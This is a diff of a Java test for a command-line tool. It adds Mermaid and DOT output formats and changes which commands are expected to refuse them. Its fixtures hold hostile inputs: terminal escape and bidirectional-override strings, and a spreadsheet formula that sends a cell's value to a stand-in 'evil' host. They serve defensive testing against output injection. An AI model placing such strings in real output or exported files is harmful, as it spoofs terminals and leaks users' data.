@@ -57,7 +57,9 @@ class HostileTextCliTest {
   static final String POST = "post\u001b]0;title\u0007\nFORGED\u2028x";
   static final String SCENARIO = "viral\u001b[2J\r\nFORGED\u202e";
   static final String FORMULA = "=HYPERLINK(\"http://evil/\"&A1)";
-  static final List<String> FORMATS = List.of("table", "json", "yaml", "markdown", "csv");
+  static final List<String> FORMATS = List.of("table", "json", "yaml", "markdown", "csv", "mermaid", "dot");
+  /** The commands that draw a sketch ({@code -o mermaid}, {@code -o dot}) of one scenario. */
+  static final Set<String> SKETCHES = Set.of("estimate", "qps", "storage", "bandwidth", "shards");
 
   @TempDir Path dir;
   String file;
@@ -98,8 +100,11 @@ class HostileTextCliTest {
         args.addAll(List.of("-o", format));
         CliRun run = CliRun.run(args.toArray(String[]::new));
         // What envelope refuses: validate prints no Markdown or CSV, --explain no CSV.
+        boolean sketch = Set.of("mermaid", "dot").contains(format);
         boolean refused = (command.get(0).equals("validate") && Set.of("markdown", "csv").contains(format))
-            || (command.contains("--explain") && format.equals("csv"));
+            || (command.contains("--explain") && format.equals("csv"))
+            || (sketch && (!SKETCHES.contains(command.get(0)) || command.stream().anyMatch(
+                a -> Set.of("--scenarios", "--explain", "--napkin", "--histogram").contains(a))));
         int expected = refused ? 2 : command.get(0).equals("check") ? 1 : 0;
         assertThat(run.exitCode()).as(run.toString()).isEqualTo(expected);
         if (!refused) {
